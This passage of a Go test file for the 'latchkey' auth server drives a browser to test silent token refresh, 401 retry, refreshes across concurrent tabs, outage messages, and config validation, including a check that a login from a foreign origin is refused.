		tb := b.newTab(t, "fast")
		tb.open(fastPage)
		tb.signIn("john", "password123admin")
		first := tb.claims()["jti"]
		start := time.Now()
		for time.Since(start) < 10*time.Second { // more than three lifetimes
			time.Sleep(time.Second)
			if !eval[bool](tb, "still signed in", shown("signed-in")) {
				tb.fail("still signed in", "signed out after %s", time.Since(start).Round(time.Second))
			}
		}
		c := tb.claims()
		if exp, _ := c["exp"].(float64); time.Unix(int64(exp), 0).Before(time.Now()) {
			tb.fail("the token is current", "the page holds a token that expired at %v", time.Unix(int64(exp), 0))
		}
		if c["jti"] == first {
			tb.fail("the token is current", "the page still holds its first token")
		}
		if n := refreshCount(tb); n < 3 {
			tb.fail("refreshed silently", "%d refreshes in 10 s of 3-second tokens", n)
		}
		for _, x := range afterLoad(tb.exchanges("POST", "/session/refresh")) {
			if x.status != 200 {
				tb.fail("refreshed silently", "a refresh answered %d (%s)", x.status, x.failed)
			}
		}
		tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
		tb.bookTitles("the books still load", 3)
		if tb.text("whoami-username") != "john" {
			tb.fail("who am I", "not john")
		}
	})

	t.Run("a 401 makes the page refresh and try again", func(t *testing.T) {
		tb := b.newTab(t, "401")
		tb.open(fastPage)
		tb.signIn("john", "password123admin")
		// The books server answers the next GET /books with 401, as it
		// would for a token that expired while the laptop slept.
		paused := chromedp.Events(tb.ctx, fetch.RequestPaused)
		if _, err := chromedp.Call(tb.ctx, fetch.Enable, fetch.EnableParams{Patterns: []*fetch.RequestPattern{{URLPattern: "*/books"}}}); err != nil {
			tb.fail("intercept GET /books", "%v", err)
		}
		var tokens []string
		done := make(chan error, 1)
		go func() {
			for ev, err := range paused {
				if err != nil {
					done <- err
					return
				}
				if ev.Request.Method != "GET" {
					if _, err := chromedp.Call(tb.ctx, fetch.ContinueRequest, fetch.ContinueRequestParams{RequestID: ev.RequestID}); err != nil {
						done <- err
						return
					}
					continue
				}
				tokens = append(tokens, fmt.Sprint(ev.Request.Headers["Authorization"]))
				if len(tokens) == 1 {
					_, err = chromedp.Call(tb.ctx, fetch.FulfillRequest, fetch.FulfillRequestParams{
						RequestID: ev.RequestID, ResponseCode: 401,
						ResponseHeaders: []*fetch.HeaderEntry{
							{Name: "Content-Type", Value: "application/json"},
							{Name: "Access-Control-Allow-Origin", Value: fastAuth},
							{Name: "WWW-Authenticate", Value: `Bearer realm="latchkey", error="invalid_token"`},
						},
						Body: []byte(`{"error":"invalid_token","error_description":"The access token expired."}`),
					})
				} else {
					_, err = chromedp.Call(tb.ctx, fetch.ContinueRequest, fetch.ContinueRequestParams{RequestID: ev.RequestID})
					done <- err
					return
				}
				if err != nil {
					done <- err
					return
				}
			}
		}()
		n := refreshCount(tb)
		tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
		select {
		case err := <-done:
			if err != nil {
				tb.fail("intercept GET /books", "%v", err)
			}
		case <-time.After(stepTimeout):
			tb.fail("intercept GET /books", "the page did not try again after the 401")
		}
		tb.bookTitles("the books load after the retry", 3)
		if got := refreshCount(tb); got <= n {
			tb.fail("refreshed on the 401", "refresh count %d, was %d", got, n)
		}
		if len(tokens) != 2 || tokens[0] == tokens[1] || !strings.HasPrefix(tokens[1], "Bearer ") {
			tb.fail("retried with a new token", "Authorization headers %q", tokens)
		}
		if _, err := chromedp.Call(tb.ctx, fetch.Disable, cdp.Empty{}); err != nil {
			tb.fail("stop intercepting", "%v", err)
		}
	})

	t.Run("two tabs refreshing at the same moment both stay signed in", func(t *testing.T) {
		one := b.newTab(t, "tab one")
		one.open(fastPage)
		one.signIn("anna", "password123member")
		two := one.sibling("tab two")
		two.open(fastPage)
		two.waitFor("the second tab signs in from the cookie", fmt.Sprintf(`%s && %s === 'anna'`, shown("signed-in"), textOf("whoami-username")))
		// Both click "Refresh now" at one instant, on top of the timers
		// that fire together every two seconds.
		at := time.Now().Add(400 * time.Millisecond).UnixMilli()
		for _, tb := range []*tab{one, two} {
			eval[bool](tb, "arm the click", fmt.Sprintf(`(setTimeout(() => document.getElementById('token-refresh').click(), %d - Date.now()), true)`, at))
		}
		time.Sleep(7 * time.Second)
		for _, tb := range []*tab{one, two} {
			if !eval[bool](tb, "still signed in", shown("signed-in")) {
				tb.fail("still signed in", "signed out: %s", tb.text("notice"))
			}
			tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
			tb.bookTitles("the books load", 3)
		}
		// The refreshes of the two tabs never overlapped: each waited for
		// the other's lock, so neither presented a cookie the other had
		// just retired.
		type span struct{ from, to float64 }
		var spans []span
		for _, tb := range []*tab{one, two} {
			for _, x := range afterLoad(tb.exchanges("POST", "/session/refresh")) {
				if x.status != 200 {
					tb.fail("refreshes", "a refresh answered %d (%s)", x.status, x.failed)
				}
				spans = append(spans, span{x.sent, x.done})
			}
		}
		if len(spans) < 4 {
			t.Fatalf("%d refreshes in the two tabs; the test did not make them race", len(spans))
		}
		for i := range spans {
			for j := range spans {
				if i < j && spans[i].from < spans[j].to && spans[j].from < spans[i].to {
					t.Errorf("two refreshes overlapped: %v and %v", spans[i], spans[j])
				}
			}
		}
	})

	t.Run("a server that is down gets a clear message", func(t *testing.T) {
		tb := b.newTab(t, "outage")
		tb.open(fastPage)
		tb.signIn("john", "password123admin")
		stopFast()
		tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
		tb.waitFor("the page says the books server is down", fmt.Sprintf(`%s && %s.includes('does not answer')`, shown("books-error"), textOf("books-error")))
		tb.waitFor("and that the session cannot be renewed", fmt.Sprintf(`%s && /auth server .* does not answer/.test(%s)`, shown("alert"), textOf("alert")))
		if !eval[bool](tb, "still signed in", shown("signed-in")) {
			tb.fail("still signed in", "an outage signed the user out")
		}
	})
}

// TestBrowserSettings: LATCHKEY_BOOKS_URL and LATCHKEY_COOKIE_SECURE as the
// contract's table gives them, and the demo's books URL following its
// listener.
func TestBrowserSettings(t *testing.T) {
	inTempDir(t)
	for _, tc := range []struct {
		name     string
		cmd      command
		vars     map[string]string
		booksURL string
		secure   bool
	}{
		{name: "defaults", cmd: serveCmd, booksURL: "http://localhost:4000"},
		{name: "https issuer", cmd: serveCmd, vars: map[string]string{"LATCHKEY_ISSUER": "https://auth.example.com"},
			booksURL: "http://localhost:4000", secure: true},
		{name: "https issuer, said true", cmd: serveCmd, vars: map[string]string{"LATCHKEY_ISSUER": "https://auth.example.com", "LATCHKEY_COOKIE_SECURE": "true"},
			booksURL: "http://localhost:4000", secure: true},
		{name: "http issuer, told to be secure", cmd: serveCmd, vars: map[string]string{"LATCHKEY_COOKIE_SECURE": "true"},
			booksURL: "http://localhost:4000", secure: true},
		{name: "http issuer, said false", cmd: serveCmd, vars: map[string]string{"LATCHKEY_COOKIE_SECURE": "false"},
			booksURL: "http://localhost:4000"},
		{name: "books URL given", cmd: serveCmd, vars: map[string]string{"LATCHKEY_BOOKS_URL": "https://books.example.com/"},
			booksURL: "https://books.example.com"},
		{name: "demo defaults", cmd: demoCmd, booksURL: "http://localhost:4000"},
		{name: "demo books address", cmd: demoCmd, vars: map[string]string{"LATCHKEY_BOOKS_ADDR": "127.0.0.1:4100"},
			booksURL: "http://127.0.0.1:4100"},
		{name: "demo books address and URL", cmd: demoCmd, vars: map[string]string{"LATCHKEY_BOOKS_ADDR": "127.0.0.1:4100", "LATCHKEY_BOOKS_URL": "http://books.local:4100"},
			booksURL: "http://books.local:4100"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := mustLoadConfig(t, tc.cmd, tc.vars)
			if cfg.BooksURL != tc.booksURL || cfg.CookieSecure != tc.secure {
				t.Errorf("books URL %q, cookie secure %v; want %q, %v", cfg.BooksURL, cfg.CookieSecure, tc.booksURL, tc.secure)
			}
		})
	}
	for _, tc := range []struct {
		name string
		vars map[string]string
		says string
	}{
		{"false with an https issuer", map[string]string{"LATCHKEY_ISSUER": "https://auth.example.com", "LATCHKEY_COOKIE_SECURE": "false"}, "LATCHKEY_COOKIE_SECURE"},
		{"not a boolean", map[string]string{"LATCHKEY_COOKIE_SECURE": "yes"}, "LATCHKEY_COOKIE_SECURE"},
		{"books URL not http", map[string]string{"LATCHKEY_BOOKS_URL": "books:4000"}, "LATCHKEY_BOOKS_URL"},
		{"wildcard app origin", map[string]string{"LATCHKEY_CORS_ORIGINS": "*"}, "LATCHKEY_CORS_ORIGINS"},
	} {
		t.Run("refused: "+tc.name, func(t *testing.T) {
			_, _, err := loadConfig(serveCmd, nil, env{getenv: func(k string) string { return tc.vars[k] }, stderr: io.Discard}, nil)
			var out strings.Builder
			if code := exitCode(err, &out); code != 2 || !strings.Contains(out.String(), tc.says) {
				t.Errorf("exit %d, %q; want 2 naming %s", code, out.String(), tc.says)
			}
		})
	}

	// The binary hands the origins to the auth server: an app origin of
	// LATCHKEY_CORS_ORIGINS passes cookie mode's CSRF check, another does not.
	authURL, _, _ := startDemo(t, t.TempDir(), map[string]string{"LATCHKEY_CORS_ORIGINS": "https://app.example.com"})
	login := map[string]string{"username": "anna", "password": "password123member"}
	if st, body := postJSON(t, authURL+"/session/login", login, "Origin", "https://app.example.com", "X-Latchkey-CSRF", "1"); st != 200 {
		t.Errorf("login from the configured app origin: %d %s", st, body)
	}
	if st, body := postJSON(t, authURL+"/session/login", login, "Origin", "https://evil.example.com", "X-Latchkey-CSRF", "1"); st != 403 {
		t.Errorf("login from another origin: %d %s, want 403", st, body)
	}
}
